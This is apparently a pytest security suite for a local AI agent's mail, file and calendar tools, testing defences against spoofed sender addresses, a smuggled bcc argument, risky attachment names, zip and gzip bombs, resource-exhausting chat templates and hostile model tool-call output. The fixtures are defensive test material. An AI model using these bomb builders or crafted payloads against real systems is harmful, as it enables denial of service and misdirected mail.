"""Attacks 12-15 (Low): spoofed addresses, hidden attachment names, crashes instead of
handled errors, unbounded work, and quiet network use."""

from __future__ import annotations

import http.server
import json
import os
import threading
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from app.agent.backends import BackendError, OpenAICompatibleBackend
from app.agent.chat_format import ChatFormat, TemplateError
from app.agent.confirmation import ConfirmationRequest
from app.agent.loop import Agent, AgentConfig
from app.agent.registry import ToolRegistry, validate_arguments
from app.agent.runner import CallRequest, TaskContext, ToolRunner
from app.store.db import Store, StoreJournal
from connectors import ConnectorContext
from connectors.base import Effect, Tool, ToolResult
from connectors.calendars.account import CalDAVAccount
from connectors.files.tools import build_tools as files_tools
from connectors.mail.mime import show_addresses
from connectors.mail.tools import build_tools as mail_tools
from connectors.mail.tools import risky_file_name
from tests.support.doubles import Recorder, ScriptedBackend, ScriptedConfirmer, send_tool


# -- 12 ------------------------------------------------------------------------------------------
def test_a_display_name_that_is_another_address_is_shown_as_the_real_one() -> None:
    shown = show_addresses(['"bob@example.org" <evil@attacker.example>', "Ann <ann@x.org>",
                            "carl@y.org"])
    assert shown.startswith("evil@attacker.example (named \"bob@example.org\" — NOT that")
    assert 'ann@x.org ("Ann")' in shown and shown.endswith("carl@y.org")


def test_the_send_preview_names_attachments_by_full_path_and_real_address(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "report.pdf").write_bytes(b"%PDF-1 a")
    (tmp_path / "b" / "report.pdf").write_bytes(b"%PDF-1 bb")
    context = ConnectorContext(tmp_path, (tmp_path,), {"mail": {"accounts": [{
        "name": "work", "email": "me@example.org", "imap_host": "h", "smtp_host": "h"}]}})
    send = {t.name: t for t in mail_tools(context)}["mail_send"]
    preview = send.preview_for({"to": ['"boss@example.org" <evil@attacker.example>'],
                                "subject": "Q3", "body": "see",
                                "attachments": [str(tmp_path / "b" / "report.pdf")]})
    fields = {f.label: f.value for f in preview.fields}
    assert str(tmp_path / "b" / "report.pdf") in fields["Attachments"]
    assert fields["To"].startswith("evil@attacker.example") and "NOT that address" in fields["To"]


@pytest.mark.parametrize("name", [".bashrc", "evil.desktop", "setup.exe", "CON", "con.txt",
                                  "invoice.pdf.exe", "run.sh", "macro.docm"])
def test_hidden_and_executable_attachment_names_are_flagged(name: str) -> None:
    assert risky_file_name(name)


@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "Q3 report.docx"])
def test_ordinary_attachment_names_are_not_flagged(name: str) -> None:
    assert risky_file_name(name) == ""


# -- 13 ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("turn", [
    '<tool_call>{"name": "mail_send", "arguments": ' + "[" * 50_000 + "</tool_call>",
    "[" * 50_000,
    "<tool_call>{'name': 'mail_send', 'arguments': {1: 'a', (1, 2): 'b'}}</tool_call>",
    "```json\n{'name': 'mail_send', 'arguments': {'to': {1, 2}}}\n```",
    "{" * 30_000 + '"name": "mail_send"',
])
def test_garbage_model_output_never_escapes_the_loop(turn: str) -> None:
    sender = Recorder()
    registry = ToolRegistry([send_tool(sender)])
    agent = Agent(ScriptedBackend([turn, turn, turn, "Sorry."]), registry,
                  ToolRunner(registry, ScriptedConfirmer("approve")),
                  AgentConfig(use_grammar=False))
    history: list[dict[str, Any]] = []
    agent.run(history, "Hi")  # returns: no exception reaches the caller
    assert sender.calls == []


def test_an_unknown_extra_argument_is_refused_before_the_dialog() -> None:
    sender = Recorder()
    tool = Tool("mail_send", "Send.", {"type": "object", "properties": {
        "to": {"type": "string"}}, "required": ["to"]}, Effect.SEND, sender,
        summarize=lambda a: "Send")
    confirmer = ScriptedConfirmer("approve")
    runner = ToolRunner(ToolRegistry([tool]), confirmer)
    [outcome] = runner.run_calls([CallRequest("mail_send", {"to": "bob@x.org",
                                                            "bcc": "eve@evil.example"})],
                                 TaskContext())
    assert outcome.status == "invalid" and "bcc" in outcome.text
    assert confirmer.seen == [] and sender.calls == []


def test_an_edited_path_outside_the_folders_is_a_journalled_denial(tmp_path: Path) -> None:
    docs = tmp_path / "Documents"
    docs.mkdir()
    store = Store(tmp_path / "db.sqlite3")

    def edit_outside(request: ConfirmationRequest) -> Any:
        return request.approve_edited({**request.arguments, "path": "/etc/evil.txt"})

    registry = ToolRegistry(files_tools(ConnectorContext(tmp_path, (docs,))))
    runner = ToolRunner(registry, ScriptedConfirmer(edit_outside), StoreJournal(store))
    [outcome] = runner.run_calls([CallRequest("files_write", {"path": "a.txt",
                                                              "content": "x"})], TaskContext())
    assert outcome.status == "denied" and "outside" in outcome.text
    [entry] = store.journal_entries()
    assert entry.decision.startswith("denied") and "outside" in entry.decision
    assert not Path("/etc/evil.txt").exists()


# -- 14 ------------------------------------------------------------------------------------------
@pytest.mark.skipif(os.name != "posix", reason="FIFOs")
def test_files_search_does_not_block_on_a_fifo(tmp_path: Path) -> None:
    docs = tmp_path / "Documents"
    docs.mkdir()
    os.mkfifo(docs / "notes.md")
    (docs / "real.md").write_text("the needle is here")
    tools = {t.name: t for t in files_tools(ConnectorContext(tmp_path, (docs,)))}
    found: list[Any] = []
    worker = threading.Thread(target=lambda: found.append(
        tools["files_search"].function(query="needle")), daemon=True)
    worker.start()
    worker.join(10)
    if worker.is_alive():  # free the blocked reader so the suite goes on, then fail
        os.close(os.open(docs / "notes.md", os.O_WRONLY | os.O_NONBLOCK))
        pytest.fail("files_search blocked on a FIFO")
    assert [Path(r["path"]).name for r in found[0].content] == ["real.md"]
    with pytest.raises(Exception, match="(?i)not a regular file"):
        tools["files_read"].function(path="notes.md")


def test_a_docx_zip_bomb_is_refused_without_unpacking_it(tmp_path: Path) -> None:
    docs = tmp_path / "Documents"
    docs.mkdir()
    bomb = docs / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b"<w:t>" + b"A" * (1 << 20) + b"</w:t>"
            for _ in range(200):  # 200 MB of XML in a file of a few hundred KB
                member.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    tools = {t.name: t for t in files_tools(ConnectorContext(tmp_path, (docs,)))}
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Exception, match="too large"):
        tools["files_read"].function(path="bomb.docx")
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 150_000  # it did not expand 200 MB


@pytest.mark.parametrize("source", [
    "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
    "{{ 'x' * 1000000000 }}",
    "{{ 9 ** 999999999 }}",
    "{% set s = namespace(v='a') %}{% for i in range(60) %}{% set s.v = s.v ~ s.v %}"
    "{% endfor %}{{ s.v }}",
    "{% set s = namespace(v='a') %}{% for i in range(60) %}{% set s.v = s.v|replace('a', 'aa')"
    " %}{% endfor %}{{ s.v }}",
    "{% set s = namespace(v='ab') %}{% for i in range(60) %}{% set s.v = s.v + s.v %}"
    "{% endfor %}{{ s.v }}",
    "x" * 300_000,
])
def test_a_crafted_chat_template_is_stopped_quickly(source: str) -> None:
    started = time.monotonic()
    with pytest.raises(TemplateError):
        ChatFormat(source).render([{"role": "user", "content": "hi"}])
    assert time.monotonic() - started < 10


# -- 15 ------------------------------------------------------------------------------------------
def test_schema_refs_are_never_fetched() -> None:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"type": "string"}')

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/schema.json"
        tool = Tool("case_tool", "A case's tool.", {"type": "object", "properties": {
            "a": {"$ref": url}}}, Effect.READ, lambda **k: ToolResult(k))
        _, problem = validate_arguments(tool, {"a": "x"})
        assert problem is not None and "nothing is ever fetched" in problem.message
        assert hits == []
    finally:
        server.shutdown()


def test_a_plain_http_model_server_elsewhere_needs_an_explicit_yes() -> None:
    with pytest.raises(BackendError, match="unencrypted"):
        OpenAICompatibleBackend("http://192.0.2.10:8080")
    with pytest.raises(BackendError, match="credentials"):
        OpenAICompatibleBackend("https://user:pw@models.example")
    assert OpenAICompatibleBackend("http://192.0.2.10:8080", allow_insecure=True).insecure
    assert not OpenAICompatibleBackend("http://127.0.0.1:8080").insecure
    assert not OpenAICompatibleBackend("https://models.example").insecure


def test_a_caldav_url_with_a_password_in_it_is_refused() -> None:
    account = CalDAVAccount("c", "https://alice:hunter2@dav.example/", "alice")
    assert "url" in account.problems()
    assert "url" not in CalDAVAccount("c", "https://dav.example/", "alice").problems()


def test_pinned_catalog_entries_pin_a_commit_and_a_checksum() -> None:
    from app.agent.catalog import load_catalog

    for entry in load_catalog():
        if entry.sha256 is not None:  # pinned: both a commit and the file's digest
            assert len(entry.sha256) == 64 and len(entry.revision) == 40, entry.id
        else:
            assert entry.revision, entry.id  # unpublished: the download checks the hub's digest
    assert json.loads(Path("resources/models.json").read_text())["models"]


def test_a_calendar_servers_gzip_bomb_is_not_unpacked_past_the_body_limit(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A hostile CalDAV server answers with a few hundred KB of gzip that unpack to gigabytes
    (asked for none: Accept-Encoding identity). The body is read until it passes MAX_BODY,
    then the connection is dropped: a clear message, no helper thread left reading, and the
    same session works again once the server answers honestly."""
    import gzip

    from connectors.calendars import client as caldav_client
    from connectors.calendars.client import CalDAVSession
    from connectors.calendars.errors import CalendarConnectionError

    monkeypatch.setattr(caldav_client, "MAX_BODY", 1024 * 1024)
    bomb = gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)  # 64 MB from ~64 KB
    honest = (b'<?xml version="1.0"?><d:multistatus xmlns:d="DAV:"><d:response><d:href>/alice/'
              b'</d:href><d:propstat><d:prop><d:current-user-principal><d:href>/alice/</d:href>'
              b'</d:current-user-principal></d:prop><d:status>HTTP/1.1 200 OK</d:status>'
              b'</d:propstat></d:response></d:multistatus>')
    state = {"hostile": True, "asked": ""}

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            state["asked"] = self.headers.get("Accept-Encoding", "")
            body = bomb if state["hostile"] else honest
            self.send_response(207)
            self.send_header("Content-Type", "application/xml; charset=utf-8")
            if state["hostile"]:
                self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            try:
                self.wfile.write(body)
            except OSError:  # the client dropped the connection: what it should do
                pass

        do_GET = do_PROPFIND = do_REPORT = do_OPTIONS = answer

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        account = CalDAVAccount("cal-bomb", f"http://127.0.0.1:{server.server_port}/", "alice")
        session = CalDAVSession(account, "alice-pw", timeout=(5, 5))
        before = set(threading.enumerate())
        with pytest.raises(CalendarConnectionError) as failed:
            session.home()
        said = str(failed.value)
        assert "larger than 1 MB" in said and "tries again at the next sync" in said, said
        assert state["asked"] == "identity"
        assert not [t for t in set(threading.enumerate()) - before
                    if t.name == "caldav-request" and t.is_alive()]
        state["hostile"] = False
        assert session.home()
    finally:
        server.shutdown()
